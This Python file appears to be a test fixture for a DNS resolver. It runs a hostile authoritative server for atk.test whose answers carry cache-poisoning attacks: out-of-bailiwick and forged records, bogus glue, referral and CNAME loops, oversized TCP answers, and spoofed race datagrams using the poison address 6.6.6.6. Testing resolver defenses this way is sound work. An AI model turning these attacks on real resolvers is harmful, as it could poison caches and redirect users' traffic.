#!/usr/bin/python3
"""resolver_attack.py ADDR: a hostile authoritative server for atk.test.

The server of resolver_attack.sh (issue 16, item 3), on ADDR port 53,
UDP and TCP, with dnspython.  It is authoritative for atk.test. (unsigned,
delegated from test. without DS) and answers each name below it with one
attack on the resolver asking:

  oob.atk.test.       A: right answer, then NS records for test. and
                      vic.test. in the authority section and A records of
                      their names (6.6.6.6) in the additional section
  ans.atk.test.       A: an answer section that also holds www.vic.test.
  cn.atk.test.        A: CNAME to www.vic.test. and a false A record of it
  *.glue.atk.test.    referral of glue.atk.test. to ns.vic.test. with
                      "glue" ns.vic.test. A ADDR (not in bailiwick)
  *.self.atk.test.    referral of self.atk.test. to this very server,
                      every time (the zone never ends)
  *.up.atk.test.      referral upwards: test. NS ns.atk.test.
  a.loop.atk.test.    CNAME b.loop.atk.test., which CNAMEs back to a
  mid.atk.test.       TXT: over UDP truncated, over TCP 8 TXT records of
                      240 octets (for the sizes of the resolver's answers)
  big.atk.test.       TXT: over UDP truncated, over TCP a message of
                      about 64 KiB (258 TXT records of 240 octets)
  many.atk.test.      TXT: over UDP truncated, over TCP 5 000 records
  race.atk.test.      A: over UDP, before the answer, what an off-path
                      spoofer races with: datagrams with other IDs, to
                      other ports, and (when the question came in mixed
                      case, 0x20) the right ID with the question's case
                      flipped, all saying 6.6.6.6; the answer (192.0.2.30)
                      follows 100 ms later

The spoofed datagrams leave from this server's own address, as an
off-path attacker forging it would send them: the resolver cannot tell
them apart by their source.  6.6.6.6 is the poison every attack carries:
the test asserts that no answer of the resolver ever holds it.
"""
import socket
import socketserver
import sys
import threading
import time

import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdatatype
import dns.rrset

ADDR = sys.argv[1]
ZONE = dns.name.from_text("atk.test.")
POISON = "6.6.6.6"
TTL = 300


def rrset(owner, rtype, *rdatas):
    return dns.rrset.from_text(owner, TTL, "IN", rtype, *rdatas)


def soa():
    return rrset("atk.test.", "SOA",
                 "ns.atk.test. hostmaster.atk.test. 1 3600 900 604800 300")


def answer(query, tcp):
    """The reply to query (a dns.message)."""
    r = dns.message.make_response(query)
    r.flags |= dns.flags.AA
    q = query.question[0]
    name = q.name.canonicalize()
    qtype = q.rdtype
    rel = name.relativize(ZONE).to_text().lower() \
        if name.is_subdomain(ZONE) else None
    if rel is None:
        r.set_rcode(dns.rcode.REFUSED)
        r.flags &= ~dns.flags.AA
        return r
    A = dns.rdatatype.A

    def ans(rtype, *rdatas):
        r.answer.append(rrset(q.name, rtype, *rdatas))

    def referral(child, ns, glue_name, glue_addr):
        r.flags &= ~dns.flags.AA
        r.authority.append(rrset(child, "NS", ns))
        r.additional.append(rrset(glue_name, "A", glue_addr))

    last = rel.split(".")
    if rel == "@":
        if qtype == dns.rdatatype.NS:
            ans("NS", "ns.atk.test.")
            r.additional.append(rrset("ns.atk.test.", "A", ADDR))
        elif qtype == dns.rdatatype.SOA:
            ans("SOA", soa()[0].to_text())
        else:
            r.authority.append(soa())
    elif rel == "ns":
        if qtype == A:
            ans("A", ADDR)
        else:
            r.authority.append(soa())
    elif rel == "oob" and qtype == A:
        ans("A", "192.0.2.20")
        r.authority.append(rrset("vic.test.", "NS", "ns.atk.test."))
        r.authority.append(rrset("test.", "NS", "ns.atk.test."))
        for n in ("www.vic.test.", "ns.vic.test.", "www.test.",
                  "ns1.test.", "ns.atk.test."):
            r.additional.append(rrset(n, "A", POISON))
    elif rel == "ans" and qtype == A:
        ans("A", "192.0.2.21")
        r.answer.append(rrset("www.vic.test.", "A", POISON))
    elif rel == "cn" and qtype in (A, dns.rdatatype.CNAME):
        ans("CNAME", "www.vic.test.")
        if qtype == A:
            r.answer.append(rrset("www.vic.test.", "A", POISON))
    elif last[-1] == "glue":
        referral("glue.atk.test.", "ns.vic.test.", "ns.vic.test.", ADDR)
    elif last[-1] == "self":
        referral("self.atk.test.", "ns.atk.test.", "ns.atk.test.", ADDR)
    elif last[-1] == "up":
        referral("test.", "ns.atk.test.", "ns.atk.test.", ADDR)
    elif rel in ("a.loop", "b.loop"):
        other = "b" if rel == "a.loop" else "a"
        ans("CNAME", "%s.loop.atk.test." % other)
        r.answer.append(rrset("%s.loop.atk.test." % other, "CNAME",
                              "%s.atk.test." % rel))
    elif rel == "loop":
        r.authority.append(soa())
    elif rel == "mid" and qtype == dns.rdatatype.TXT:
        if not tcp:
            r.flags |= dns.flags.TC
            return r
        ans("TXT", *['"%03d%s"' % (i, "m" * 237) for i in range(8)])
    elif rel in ("big", "many") and qtype == dns.rdatatype.TXT:
        if not tcp:
            r.flags |= dns.flags.TC
            return r
        if rel == "big":
            ans("TXT", *['"%03d%s"' % (i, "x" * 237) for i in range(258)])
        else:
            # 5 000 records of one empty string each: 13 octets a
            # record is all a 64 KiB message leaves room for, so they
            # cannot all differ; wire() writes them out.
            r.use_edns(False)
            r.many = 5000
    elif rel == "race":
        if qtype == A:
            ans("A", "192.0.2.30")
        else:
            r.authority.append(soa())
    else:
        r.set_rcode(dns.rcode.NXDOMAIN)
        r.authority.append(soa())
    return r


def wire(r, tcp):
    n = getattr(r, "many", 0)
    if n:
        # The answer section by hand: an RRset holds each rdata once.
        w = bytearray(r.to_wire())
        w[6:8] = n.to_bytes(2, "big")
        rec = bytes.fromhex("c00c" "0010" "0001") + TTL.to_bytes(4, "big") \
            + bytes.fromhex("0001" "00")
        return bytes(w) + rec * n
    return r.to_wire(max_size=65535 if tcp else 512)


def flip_case(w):
    """The message w with the letters of its question name case-flipped."""
    b = bytearray(w)
    i = 12
    while b[i] != 0:
        n = b[i]
        for j in range(i + 1, i + 1 + n):
            if 0x41 <= b[j] <= 0x5a or 0x61 <= b[j] <= 0x7a:
                b[j] ^= 0x20
        i += n + 1
    return bytes(b)


def race(sock, query, data, peer):
    """The spoofer's datagrams, then the true answer."""
    r = answer(query, False)
    poison = dns.message.make_response(query)
    poison.flags |= dns.flags.AA
    poison.answer.append(rrset(query.question[0].name, "A", POISON))
    pw = poison.to_wire()
    qid = query.id
    for k in range(1, 6):
        b = bytearray(pw)
        b[0:2] = ((qid + k * 7919) & 0xffff).to_bytes(2, "big")
        sock.sendto(bytes(b), peer)
    for dp in (1, -1, 2):
        port = peer[1] + dp
        if 1024 <= port <= 65535:
            sock.sendto(pw, (peer[0], port))
    name = data[12:12 + len(query.question[0].name.to_wire())]
    if name.lower() != name and name.upper() != name:
        sock.sendto(flip_case(pw), peer)
    time.sleep(0.1)
    sock.sendto(wire(r, False), peer)


def parse(data):
    """The query in data, or None when it is none of one question."""
    try:
        query = dns.message.from_wire(data)
    except Exception:
        return None
    return query if len(query.question) == 1 else None


def udp_loop(sock):
    while True:
        data, peer = sock.recvfrom(65535)
        if (query := parse(data)) is None:
            continue
        rel = query.question[0].name.canonicalize()
        if rel == dns.name.from_text("race.atk.test."):
            threading.Thread(target=race, args=(sock, query, data, peer),
                             daemon=True).start()
            continue
        sock.sendto(wire(answer(query, False), False), peer)


class TCPHandler(socketserver.BaseRequestHandler):
    def handle(self):
        s = self.request
        s.settimeout(10)
        buf = b""
        while True:
            try:
                chunk = s.recv(65537)
            except OSError:
                return
            if not chunk:
                return
            buf += chunk
            while len(buf) >= 2 and len(buf) >= 2 + (buf[0] << 8 | buf[1]):
                n = buf[0] << 8 | buf[1]
                data, buf = buf[2:2 + n], buf[2 + n:]
                if (query := parse(data)) is None:
                    return
                r = answer(query, True)
                w = wire(r, True)
                s.sendall(len(w).to_bytes(2, "big") + w)


class TCPServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def main():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((ADDR, 53))
    t = TCPServer((ADDR, 53), TCPHandler)
    threading.Thread(target=t.serve_forever, daemon=True).start()
    print("ready", flush=True)
    udp_loop(u)


if __name__ == "__main__":
    main()
